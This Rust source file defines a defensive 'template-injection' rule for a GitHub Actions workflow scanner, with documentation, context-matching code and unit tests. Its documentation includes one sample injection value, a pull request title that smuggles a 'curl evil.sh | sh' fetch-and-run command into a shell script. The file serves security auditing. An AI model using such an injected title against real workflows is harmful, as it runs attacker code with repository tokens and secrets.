//! `template-injection`: attacker-controllable contexts expanded into code.

use std::sync::LazyLock;

use crate::finding::{Location, Severity};
use crate::model::Step;
use crate::model::expr;
use crate::rules::{Cx, Rule, RuleMeta, StepHost};

pub struct TemplateInjection;

crate::rule_meta!(
    TemplateInjection,
    "template-injection",
    Severity::High,
    "attacker-controllable context expanded into a script",
    r#"## What it does
Finds `${{ … }}` expressions that read a context an outside attacker controls (issue, pull
request, comment and review titles and bodies, head branch names and labels, commit messages
and authors, `github.head_ref`, …) expanded into a `run:` script or into the `script:` of
`actions/github-script`.

## Why is this bad
GitHub substitutes the expression into the script text *before* the shell or Node.js runs it.
A pull request titled `a"; curl evil.sh | sh; echo "` becomes code running with the job's
token, secrets and cloud credentials. On `pull_request_target`, `issue_comment` or
`workflow_run` triggers that is a write token on the base repository.

## Example
```yaml
      - run: echo "Title: ${{ github.event.pull_request.title }}"
```

## Use instead
Pass the value through an environment variable, which the shell treats as data:
```yaml
      - run: echo "Title: $TITLE"
        env:
          TITLE: ${{ github.event.pull_request.title }}
```

## References
- https://securitylab.github.com/resources/github-actions-untrusted-input/
- https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
- zizmor `template-injection`: https://docs.zizmor.sh/audits/#template-injection
"#
);

/// The table of attacker-controllable contexts, as data beside the rule pack.
static UNTRUSTED: LazyLock<Vec<Vec<String>>> = LazyLock::new(|| {
    include_str!("../../../rules/workflow/untrusted-contexts.txt")
        .lines()
        .map(str::trim)
        .filter(|line| !line.is_empty() && !line.starts_with('#'))
        .map(|line| line.split('.').map(str::to_string).collect())
        .collect()
});

/// Whether a normalised context path (`github.event.commits.*.message`) is attacker-controlled.
pub fn is_untrusted(context: &str) -> bool {
    let parts: Vec<&str> = context.split('.').collect();
    UNTRUSTED
        .iter()
        .any(|pattern| matches_pattern(pattern, &parts))
}

fn matches_pattern(pattern: &[String], parts: &[&str]) -> bool {
    let mut i = 0;
    for (k, segment) in pattern.iter().enumerate() {
        if segment == "**" {
            return k == pattern.len() - 1 && parts.len() > i;
        }
        let Some(part) = parts.get(i) else {
            return false;
        };
        if segment != "*" && !segment.eq_ignore_ascii_case(part) && *part != "*" {
            return false;
        }
        i += 1;
    }
    i == parts.len()
}

impl Rule for TemplateInjection {
    fn meta(&self) -> &'static RuleMeta {
        Self::META
    }

    fn check_step(&self, cx: &mut Cx, _host: &StepHost, step: &Step) {
        let (route, code, sink_name) = if let Some(code) = step.run() {
            (step.route.key("run"), code, "a shell script")
        } else if step.uses_action("actions/github-script") {
            let Some(code) = step.with("script").and_then(|n| n.as_str()) else {
                return;
            };
            (step.with_route("script"), code, "github-script code")
        } else {
            return;
        };
        for expression in expr::expressions(code) {
            let Some(context) = expr::contexts(expression.inner)
                .into_iter()
                .find(|c| is_untrusted(c))
            else {
                continue;
            };
            let message =
                format!("`{context}` is attacker-controllable and is expanded into {sink_name}");
            cx.report(
                Self::META.finding(
                    message,
                    Location::fragment(route.clone(), expression.text)
                        .labelled("expanded here before the script runs"),
                ),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn patterns() {
        assert!(is_untrusted("github.event.issue.title"));
        assert!(is_untrusted("github.event.commits.*.message"));
        assert!(is_untrusted("github.event.inputs.name"));
        assert!(!is_untrusted("github.event.issue.number"));
        assert!(!is_untrusted("github.event.pull_request.head.sha"));
        assert!(!is_untrusted("github.event.inputs"));
    }
}
